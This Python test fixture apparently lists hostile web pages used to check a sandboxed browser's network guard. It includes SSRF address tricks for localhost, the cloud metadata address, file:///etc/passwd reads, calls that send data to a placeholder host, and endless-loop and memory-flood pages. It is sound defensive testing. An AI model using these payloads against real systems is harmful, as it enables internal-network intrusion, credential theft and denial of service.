"""Tricks: what a hostile page tries in a browser; each is a document, what becomes of it, and why it is here.

In the text, CANARY is the origin of a server that nobody may reach, CANARY_HOST its address and port, CANARY_UDP the
same for datagrams, and SITE the origin of the site itself. Where a page does its work later, `settled` marks its end.
"""

from __future__ import annotations

from dataclasses import dataclass

OK = frozenset({"ok"})
REFUSED = frozenset({"blocked.private"})
# A page that leaves for somewhere it may not go has been read before, or is refused for where it went.
EITHER = frozenset({"ok", "blocked.private", "blocked.scheme", "browser"})
TIMEOUT = frozenset({"timeout.total"})


@dataclass(frozen=True)
class Trick:
    name: str
    html: str
    expect: frozenset[str] = OK
    headers: tuple[str, ...] = ()
    status: str = "200 OK"
    is_slow: bool = False  # it ends by a limit only
    reaches: bool = True  # without the guard it would be seen by the canary
    waits: bool = True  # for the mark that it has done what it can


def script(code: str, name: str, expect: frozenset[str] = OK, **more: bool) -> Trick:
    """Code that may wait for something; a mark is set when it is through, or has failed."""
    html = f"""<body><script>
      const pause = (ms) => new Promise((go) => setTimeout(go, ms));
      const attempt = (one) => Promise.race([Promise.resolve(one).catch(() => 0), pause(1500)]);
      (async () => {{ try {{ {code} }} catch (e) {{ console.log(e); }}
        const mark = document.createElement("b"); mark.id = "settled"; document.body.append(mark); }})();
    </script></body>"""
    return Trick(name, html, expect, **more)


def markup(html: str, name: str, expect: frozenset[str] = OK, **more: bool) -> Trick:
    """Elements that load something by themselves."""
    later = "setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<b id=settled></b>'), 300)"
    return Trick(name, f"<body>{html}<script>{later}</script></body>", expect, **more)


_FETCHES = {
    "name localhost": "http://localhost:PORT/",
    "name in a subdomain of localhost": "http://a.localhost:PORT/",
    "mapped IPv6": "http://[::ffff:127.0.0.1]:PORT/",
    "decimal number": "http://2130706433:PORT/",
    "hexadecimal number": "http://0x7f.1:PORT/",
    "octal number": "http://0177.0.0.1:PORT/",
    "all interfaces": "http://0.0.0.0:PORT/",
    "full-width digits": "http://１２７.0.0.1:PORT/",
    "name that leads there": "http://inside.example:PORT/",
    "name that is rebound": "http://rebound.example:PORT/",
}

TRICKS: tuple[Trick, ...] = (
    script("await attempt(fetch('CANARY/fetch', {mode: 'no-cors'}));", "fetch"),
    script(
        "const x = new XMLHttpRequest(); x.open('GET', 'CANARY/xhr'); x.send(); await pause(300);", "XMLHttpRequest"
    ),
    script("new EventSource('CANARY/events'); await pause(300);", "event source"),
    script("navigator.sendBeacon('CANARY/beacon', 'x'); await pause(300);", "beacon"),
    script("new WebSocket('ws://CANARY_HOST/socket'); await pause(300);", "WebSocket"),
    script("new WebSocket('wss://CANARY_HOST/socket'); await pause(300);", "secure WebSocket"),
    script("await attempt(fetch('CANARY/alive', {mode: 'no-cors', keepalive: true}));", "fetch that outlives the page"),
    script(
        "const u = URL.createObjectURL(new Blob([`fetch('CANARY/worker', {mode: 'no-cors'})`])); new Worker(u);"
        "await pause(400);",
        "worker",
    ),
    script(
        "const u = URL.createObjectURL(new Blob([`importScripts('CANARY/imported')`])); new Worker(u);"
        "await pause(400);",
        "script of a worker",
    ),
    script(
        "const u = URL.createObjectURL(new Blob([`fetch('CANARY/shared', {mode: 'no-cors'})`]));"
        "new SharedWorker(u); await pause(400);",
        "shared worker",
    ),
    script(
        "await attempt(navigator.serviceWorker.register('/service-worker.js')); await pause(400);",
        "service worker",
        reaches=False,
    ),
    script("await attempt(import('CANARY/module.js'));", "module"),
    script(
        "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:CANARY_UDP'}]}); p.createDataChannel('x');"
        "await p.setLocalDescription(await p.createOffer()); await pause(600);",
        "WebRTC over UDP",
    ),
    script(
        "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:CANARY_HOST?transport=tcp', username: 'a',"
        "credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());"
        "await pause(600);",
        "WebRTC over TCP",
    ),
    script("const t = new WebTransport('https://CANARY_UDP/'); await attempt(t.ready);", "WebTransport", reaches=False),
    markup("<img src='CANARY/image'>", "image", reaches=False),
    markup("<script src='CANARY/script.js'></script>", "script"),
    markup("<link rel=stylesheet href='CANARY/style.css'>", "style"),
    markup("<style>@import url('CANARY/imported.css');</style>", "imported style"),
    markup(
        "<style>@font-face{font-family:x;src:url('CANARY/font')} b{font-family:x}</style><b>x</b>",
        "font",
        reaches=False,
    ),
    markup("<style>b{background:url('CANARY/background')}</style><b>x</b>", "background", reaches=False),
    markup("<iframe src='CANARY/frame'></iframe>", "frame"),
    markup("<iframe src='file:///etc/passwd'></iframe>", "frame with a file", reaches=False),
    markup("<object data='CANARY/object'></object><embed src='CANARY/embed'>", "object"),
    markup(
        "<video src='CANARY/video' autoplay muted></video><audio src='CANARY/audio'></audio>", "media", reaches=False
    ),
    markup("<link rel=prefetch href='CANARY/prefetch'>", "prefetch"),
    markup("<link rel=preload as=fetch crossorigin href='CANARY/preload'>", "preload"),
    markup("<link rel=modulepreload href='CANARY/modulepreload'>", "module that is preloaded"),
    markup("<link rel=preconnect href='CANARY'>", "preconnect", reaches=False),
    markup("<link rel=dns-prefetch href='//inside.example'>", "DNS prefetch", reaches=False),
    markup(
        """<script type=speculationrules>{"prerender": [{"urls": ["CANARY/prerender"]}],
        "prefetch": [{"urls": ["CANARY/speculated"]}]}</script>""",
        "speculation rules",
        reaches=False,
    ),
    markup("<link rel=manifest href='CANARY/manifest'><link rel=icon href='CANARY/icon'>", "manifest", reaches=False),
    script("window.open('CANARY/popup'); await pause(400);", "popup", reaches=False),
    script(
        "document.body.insertAdjacentHTML('beforeend', `<form action='CANARY/form' target=_blank></form>`);"
        "document.forms[0].submit(); await pause(400);",
        "form in a new window",
        reaches=False,
    ),
    script(
        "document.body.insertAdjacentHTML('beforeend', `<a href='#' ping='CANARY/ping'>x</a>`);"
        "document.links[0].click(); await pause(300);",
        "ping of a link",
        reaches=False,
    ),
    Trick("script that leaves at once", "<script>location = 'CANARY/left'</script>", EITHER, waits=False),
    Trick("meta refresh", "<meta http-equiv=refresh content='0;url=CANARY/refreshed'>", EITHER, waits=False),
    Trick(
        "form that is sent there",
        "<form action='CANARY/form' method=post></form><script>document.forms[0].submit()</script>",
        EITHER,
        waits=False,
    ),
    Trick("redirect", "", REFUSED, ("Location: CANARY/redirected",), "302 Found", waits=False),
    Trick(
        "redirect to a file",
        "",
        frozenset({"blocked.scheme", "browser", "redirects"}),
        ("Location: file:///etc/passwd",),
        "302 Found",
        reaches=False,
        waits=False,
    ),
    Trick(
        "redirect to a data URL",
        "",
        frozenset({"blocked.scheme", "browser", "redirects"}),
        ("Location: data:text/html,x",),
        "302 Found",
        reaches=False,
        waits=False,
    ),
    script("location = 'file:///etc/passwd'; await pause(300);", "script that opens a file", reaches=False),
    script("location = 'data:text/html,<b id=settled>'; await pause(300);", "script that opens data", reaches=False),
    script("location = 'chrome://crash'; await pause(300);", "page of the browser itself", reaches=False),
    Trick(
        "report of a policy",
        "<body><script src='CANARY/forbidden'></script><b id=settled></b></body>",
        headers=("Content-Security-Policy: script-src 'self'; report-uri CANARY/report",),
        reaches=False,
    ),
    Trick(
        "download",
        "x",
        frozenset({"bad_response"}),
        ("Content-Disposition: attachment; filename=x.exe",),
        reaches=False,
        waits=False,
    ),
    script(
        "const a = document.createElement('a'); a.href = 'data:application/zip,x'; a.download = 'x.zip'; a.click();"
        "await pause(300);",
        "download by a script",
        reaches=False,
    ),
    script(
        "navigator.geolocation.getCurrentPosition(() => 0); Notification.requestPermission();"
        "await attempt(navigator.mediaDevices?.getUserMedia({video: true})); print();",
        "requests for permission",
        reaches=False,
    ),
    script("onbeforeunload = (e) => e.preventDefault(); alert(1); confirm(2);", "dialogs", reaches=False),
    *(
        script(f"await attempt(fetch('{url}', {{mode: 'no-cors'}}));", name, reaches="rebound" not in url)
        for name, url in _FETCHES.items()
    ),
    script("await attempt(fetch('http://169.254.169.254/latest/', {mode: 'no-cors'}));", "metadata", reaches=False),
    Trick(
        "endless redirects by scripts",
        "<script>location = '?' + Math.random()</script>",
        frozenset({"redirects", "ok"}),
        reaches=False,
        waits=False,
    ),
    Trick("endless loop", "<script>for (;;);</script>", TIMEOUT, is_slow=True, reaches=False, waits=False),
    Trick("dialogs for ever", "<script>for (;;) alert(1);</script>", TIMEOUT, is_slow=True, reaches=False, waits=False),
    Trick(
        "memory for ever",
        "<script>const all = []; const more = () => { for (let n = 0; n < 4; n++) {"
        "all.push(new Uint8Array(10_000_000).fill(1)); } setTimeout(more); }; more();</script>",
        frozenset({"too_complex", "timeout.total", "browser"}),
        is_slow=True,
        reaches=False,
    ),
    Trick(
        "elements for ever",
        "<body><script>const more = () => { for (let n = 0; n < 20000; n++)"
        "document.body.append(document.createElement('p')); setTimeout(more); }; more();</script>",
        frozenset({"too_complex", "timeout.total", "too_large", "browser"}),
        is_slow=True,
        reaches=False,
    ),
    Trick(
        "a load that never ends",
        "<img><script src='/endless'></script>",
        TIMEOUT,
        is_slow=True,
        reaches=False,
        waits=False,
    ),
    Trick("a flood", "<script src='/flood'></script>", frozenset({"too_large"}), reaches=False, waits=False),
)
